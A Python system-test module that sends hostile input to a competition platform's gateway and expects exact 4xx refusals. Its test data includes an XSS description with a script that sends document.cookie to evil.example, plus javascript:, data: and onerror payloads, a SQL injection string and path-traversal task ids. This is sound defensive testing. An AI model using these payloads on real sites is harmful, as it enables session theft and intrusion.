"""Hostile input to the competition's routes, through the public API of the running platform (the gateway as its own
uvicorn process over real sockets, submission_service as its process, real NATS, PostgreSQL and S3), a sibling of
`test_hostile_input.py`'s corpus: anonymous callers and teams on every admin route of the competition; a task
description with HTML and script links (rendered with nothing of it passing); a ground-truth upload completed under
another task; documents and bodies that are huge, not UTF-8, nested deep, of the wrong shape; If-Match headers that
name no version; ground-truth starts of absurd sizes and digests; task ids that try to leave their path.

Each case says how it is sent and what it must end as: a 4xx with its exact status and the words of its `detail`, or
what else must hold. After the corpus: no answer was a 5xx, the competition's version and document are as they were
before (but for the one task the corpus added), the gateway is ready, and neither the gateway nor submission_service
logged an error."""

from __future__ import annotations

import re
import uuid
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from litestar.testing import AsyncTestClient

from gateway.routes_competition import MAX_DOCUMENT_BYTES
from tests.api import bearer, team_token
from tests.service.competition.host import DOCUMENT, Host, new_task
from tests.system.corpus import Holds, Outcome, Refused, errors_logged_since, outcome_of
from tests.system.corpus import log_marks as marks_of

pytestmark = pytest.mark.system

LOGGED = ("gateway", "submission_service")
# A description a host might paste from anywhere: none of its HTML may reach a participant's page as HTML.
HOSTILE_DESCRIPTION = (
    "Predict the pixels.\n\n<script>fetch('https://evil.example/'+document.cookie)</script>\n\n"
    "<img src=x onerror=alert(1)>\n\n[click me](javascript:alert(document.domain)) "
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vb](vbscript:msgbox(1)) "
    '<a href="https://evil.example" onclick="alert(1)">a</a> <iframe src="https://evil.example"></iframe>\n\n'
    "[ref][r]\n\n[r]: javascript:alert(2)\n\n[the rules](https://example.org/rules)"
)
# Every answer the corpus got, as (case, HTTP status): none may be a 5xx.
ANSWERS: list[tuple[str, int]] = []


@dataclass
class World:
    http: httpx.AsyncClient
    admin: str
    team: str
    task_id: str  # the corpus's own task, with the hostile description
    upload_id: str  # a ground-truth upload started for the corpus's own task
    case: str = ""

    def headers(self, who: str) -> dict[str, str]:
        return {"admin": bearer(self.admin), "team": bearer(self.team), "nobody": {}}.get(who, {"Authorization": who})


Send = Callable[[World], Awaitable[Outcome]]


@dataclass(frozen=True)
class Case:
    id: str
    send: Send
    expect: Refused | Holds


def http(method: str, path: str | Callable[[World], str], who: str = "admin", **options: Any) -> Send:
    async def send(world: World) -> Outcome:
        headers = {**world.headers(who), **options.get("headers", {})}
        url = path(world) if callable(path) else path
        return outcome_of(await world.http.request(method, url, **{**options, "headers": headers}))

    return send


async def _chunks(size: int) -> AsyncIterator[bytes]:
    for _ in range(0, size, 64 << 10):
        yield b"#" * (64 << 10)


Body = bytes | Callable[[], AsyncIterator[bytes]]  # bytes, or a callable giving a chunked stream


def document_put(body: Body, content_type: str = "application/toml", if_match: str | None = "current",
                 who: str = "admin") -> Send:
    """A PUT of the competition with If-Match naming the current version ("current"), this text, or nothing."""

    async def send(world: World) -> Outcome:
        headers = {"Content-Type": content_type}
        if if_match == "current":
            version = (await world.http.get(DOCUMENT, headers=world.headers("admin"))).headers["etag"]
            headers["If-Match"] = version
        elif if_match is not None:
            headers["If-Match"] = if_match
        return await http("PUT", DOCUMENT, who, content=body() if callable(body) else body, headers=headers)(world)

    return send


async def description_as_shown(world: World) -> Outcome:
    """The corpus's task as an anonymous participant sees it."""
    response = await world.http.get("/api/v1/competition")
    task = next(t for t in response.json()["tasks"] if t["id"] == world.task_id)
    return Outcome(response.status_code, "", task)


async def completed_under_another_task(world: World) -> Outcome:
    """The corpus's upload (started for its own task) completed under the session's task `lab`."""
    return await http("POST", "/api/v1/admin/tasks/lab/ground-truth/complete", json={"upload_id": world.upload_id})(
        world)


def no_html_passes(outcome: Outcome) -> bool:
    """Every tag the host wrote is text; the only element with an address is the one safe link, marked nofollow."""
    html = outcome.body["description_html"]
    return (outcome.status == 200 and "&lt;script&gt;" in html and "&lt;img src=x onerror=alert(1)&gt;" in html
            and re.search(r"<(script|img|iframe|svg|style)\b", html) is None
            and re.findall(r"<a\b[^>]*>", html) == ['<a href="https://example.org/rules" rel="nofollow noopener">'])


ADMIN_ROUTES = [
    ("GET", DOCUMENT, {}), ("GET", f"{DOCUMENT}?format=toml", {}), ("PUT", DOCUMENT, {"content": b"x"}),
    ("GET", f"{DOCUMENT}/versions", {}), ("GET", f"{DOCUMENT}/versions/1", {}),
    ("POST", "/api/v1/admin/tasks/lab/ground-truth", {"json": {"size_bytes": 10}}),
    ("POST", "/api/v1/admin/tasks/lab/ground-truth/complete", {"json": {"upload_id": "x"}}),
]


def admins_only() -> list[Case]:
    cases = []
    for method, path, options in ADMIN_ROUTES:
        cases.append(Case(f"anonymous {method} {path}", http(method, path, "nobody", **options),
                          Refused(401, "Not authenticated")))
        cases.append(Case(f"a team's {method} {path}", http(method, path, "team", **options),
                          Refused(403, "Admin privileges required")))
    cases.append(Case("a team's PUT with a good If-Match", document_put(b"[competition]\n", who="team"),
                      Refused(403, "Admin privileges required")))
    return cases


def bodies() -> list[Case]:
    deep = b"[" * 10_000 + b"]" * 10_000
    return [
        Case("a document over the limit", document_put(b"#" * (MAX_DOCUMENT_BYTES + 1)),
             Refused(413, f"at most {MAX_DOCUMENT_BYTES} bytes")),
        Case("a document of 8 MiB", document_put(b"#" * (8 << 20)), Refused(413, f"at most {MAX_DOCUMENT_BYTES}")),
        Case("a chunked document over the limit", document_put(lambda: _chunks(2 * MAX_DOCUMENT_BYTES)),
             Refused(413, f"over this upload's limit of {MAX_DOCUMENT_BYTES} bytes")),
        Case("a document that is not UTF-8", document_put(b"[competition]\nname = '\xc3\x28'\n"),
             Refused(400, "not valid UTF-8")),
        Case("JSON nested 10,000 deep", document_put(deep, "application/json"),
             Refused(422, "not valid JSON: nested too deeply")),
        Case("TOML nested 5,000 deep", document_put(b"a = " + b"[" * 5000 + b"]" * 5000),
             Refused(422, "not valid TOML: nested too deeply")),
        Case("a JSON list", document_put(b"[1, 2]", "application/json"), Refused(422, "Expected `object`")),
        Case("a JSON string", document_put(b'"competition"', "application/json"), Refused(422, "Expected `object`")),
        Case("a task list of 10,000 tasks", document_put(
            b'{"tasks": [' + b",".join([b'{"id": "t"}'] * 10_000) + b"]}", "application/json"),
             Refused(422, "Expected `array` of length <= 100")),
        Case("a NUL in the document", document_put(b'[competition]\nname = "a\x00b"\n'),
             Refused(422, "not valid TOML: Illegal character")),
        Case("an empty document", document_put(b""), Refused(400, "the body is empty")),
        Case("If-Match: *", document_put(b"[competition]\n", if_match="*"), Refused(400, 'as "N", W/"N" or N')),
        Case("If-Match of 8 KiB", document_put(b"[competition]\n", if_match='"' + "9" * 8000 + '"'),
             Refused(400, 'as "N", W/"N" or N')),
        Case("If-Match of a negative version", document_put(b"[competition]\n", if_match='"-1"'),
             Refused(400, 'as "N", W/"N" or N')),
        Case("If-Match of a version to come", document_put(b"[competition]\n", if_match='"999999"'),
             Holds("412 with the version now current", lambda o: o.status == 412 and "current_version" in o.body)),
        Case("dry_run that is not a boolean", http("PUT", f"{DOCUMENT}?dry_run=maybe", content=b"x",
                                                   headers={"If-Match": '"1"'}), Refused(400, "dry_run")),
        Case("format that is neither", http("GET", f"{DOCUMENT}?format=xml"), Refused(400, "format")),
        Case("version beyond 64 bits", http("GET", f"{DOCUMENT}/versions/{2**63}"),
             Refused(404, f"no competition version {2**63}")),
    ]


def ground_truth() -> list[Case]:
    start = "/api/v1/admin/tasks/{}/ground-truth"
    complete_lab = "/api/v1/admin/tasks/lab/ground-truth/complete"
    return [
        Case("a ground-truth upload completed under another task", completed_under_another_task,
             Refused(404, "no ground-truth upload")),
        Case("an upload id that is SQL", http("POST", complete_lab, json={"upload_id": "' OR 1=1 --"}),
             Refused(404, "no ground-truth upload")),
        Case("an upload id of 64 KiB", http("POST", complete_lab, json={"upload_id": "x" * (64 << 10)}),
             Refused(404, "no ground-truth upload")),
        Case("a ground truth of 1 TB", http("POST", start.format("lab"), json={"size_bytes": 10**12}),
             Refused(413, "size_bytes must be 1 to")),
        Case("a ground truth of no bytes", http("POST", start.format("lab"), json={"size_bytes": 0}),
             Refused(422, "size_bytes must be 1 to")),
        Case("a ground truth of 2**70 bytes", http("POST", start.format("lab"), json={"size_bytes": 2**70}),
             Holds("a 4xx", lambda o: 400 <= o.status < 500)),
        Case("a sha256 that is not one", http("POST", start.format("lab"), json={"size_bytes": 5, "sha256": "abc"}),
             Refused(422, "sha256 must be 64 lowercase hex digits")),
        Case("a size that is text", http("POST", start.format("lab"), json={"size_bytes": "ten"}),
             Refused(400, "$.size_bytes")),
        Case("task id '..'", http("POST", start.format("%2E%2E"), json={"size_bytes": 5}), Refused(404, "no task")),
        Case("task id 'lab.>'", http("POST", start.format("lab.%3E"), json={"size_bytes": 5}), Refused(404, "no task")),
        Case("task id '../../etc'", http("POST", start.format("..%2F..%2Fetc"), json={"size_bytes": 5}),
             Refused(404, "Not Found")),
    ]


CORPUS = [
    Case("a description with HTML and script links, as participants see it", description_as_shown,
         Holds("rendered as text: no tag, no unsafe link, the one safe link nofollow", no_html_passes)),
    *admins_only(), *bodies(), *ground_truth(),
]


# --- the tests -------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def log_marks(tmp_path_factory: pytest.TempPathFactory, gateway_url: str) -> dict[Path, int]:
    return marks_of(tmp_path_factory.getbasetemp(), LOGGED)


@pytest.fixture(scope="module")
async def world(gateway: AsyncTestClient, gateway_url: str, admin_token: str, log_marks: dict[Path, int]
                ) -> AsyncIterator[World]:
    host = Host(gateway, admin_token)
    task = new_task(f"hostile-{uuid.uuid4().hex[:4]}", description=HOSTILE_DESCRIPTION)
    await host.add_task(task)
    started = await gateway.post(f"/api/v1/admin/tasks/{task['id']}/ground-truth", headers=host.headers,
                                 json={"size_bytes": 10})
    assert started.status_code == 200, started.text
    _, token = await team_token(gateway, admin_token)
    cases: list[World] = []

    async def record(response: httpx.Response) -> None:
        ANSWERS.append((cases[0].case if cases else "setup", response.status_code))

    async with httpx.AsyncClient(base_url=gateway_url, timeout=60, event_hooks={"response": [record]}) as client:
        cases.append(World(client, admin_token, token, task["id"], started.json()["upload_id"]))
        yield cases[0]


@pytest.fixture(scope="module")
async def before(world: World) -> tuple[int, dict[str, Any]]:
    """The competition as it stood once the corpus's own task was added."""
    return await Host(world.http, world.admin).document()


@pytest.mark.parametrize("case", CORPUS, ids=[case.id for case in CORPUS])
async def test_hostile_competition_input_gets_a_clear_refusal(world: World, before: tuple[int, dict[str, Any]],
                                                              case: Case) -> None:
    world.case = case.id
    case.expect.check(await case.send(world))


async def test_after_the_corpus_the_competition_is_unchanged(world: World, before: tuple[int, dict[str, Any]],
                                                            log_marks: dict[Path, int]) -> None:
    world.case = "after the corpus"
    server_errors = [(case, status) for case, status in ANSWERS if status >= 500]
    assert not server_errors, server_errors
    assert await Host(world.http, world.admin).document() == before
    assert (await world.http.get("/readiness")).status_code == 200
    errors = errors_logged_since(log_marks)
    assert not errors, "\n".join(errors)
